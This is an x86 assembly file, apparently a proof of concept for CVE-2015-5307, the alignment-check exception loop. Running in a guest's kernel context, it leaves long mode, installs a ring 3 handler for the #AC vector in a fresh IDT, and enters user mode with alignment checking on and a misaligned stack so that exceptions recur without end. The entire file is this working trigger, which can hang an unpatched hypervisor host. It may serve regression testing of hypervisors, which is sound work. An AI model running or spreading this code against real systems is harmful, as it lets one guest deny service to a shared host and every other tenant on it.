/*
 * CVE-2015-5307: in 32-bit protected mode at ring 3 with alignment checks on,
 * #AC is delivered to a ring 3 handler on a misaligned stack; pushing its
 * frame is the next #AC, and so on without end.
 */
#define CODE32      40
#define CODE32_USER (48 + 3)
#define DATA_USER   (56 + 3)

    .text
    .code64
    .globl attack_ac_legacy
attack_ac_legacy:
    cli
    pushq $CODE32
    pushq $1f
    lretq

    .code32
1:  movl $16, %eax
    movl %eax, %ss
    movl %eax, %ds
    movl $0x40011, %eax             /* AM ET PE, no paging: long mode ends */
    movl %eax, %cr0
    movl $0xc0000080, %ecx
    xorl %eax, %eax
    xorl %edx, %edx
    wrmsr
    movl $user, %eax                /* gate 17: ring 3 code, callable from ring 3 */
    movw %ax, gates + 17 * 8
    movw $CODE32_USER, gates + 17 * 8 + 2
    movw $0xee00, gates + 17 * 8 + 4
    shrl $16, %eax
    movw %ax, gates + 17 * 8 + 6
    lidt gates_pointer
    pushl $DATA_USER
    pushl $stack_end - 1
    pushl $0x40002                  /* AC */
    pushl $CODE32_USER
    pushl $user
    iret
user:
    pushl %eax                      /* misaligned */
    jmp user

    .data
gates_pointer:
    .word 18 * 8 - 1
    .long gates
    .bss
    .balign 8
gates:
    .skip 18 * 8
    .skip 8192
stack_end:
    .section .note.GNU-stack, "", @progbits
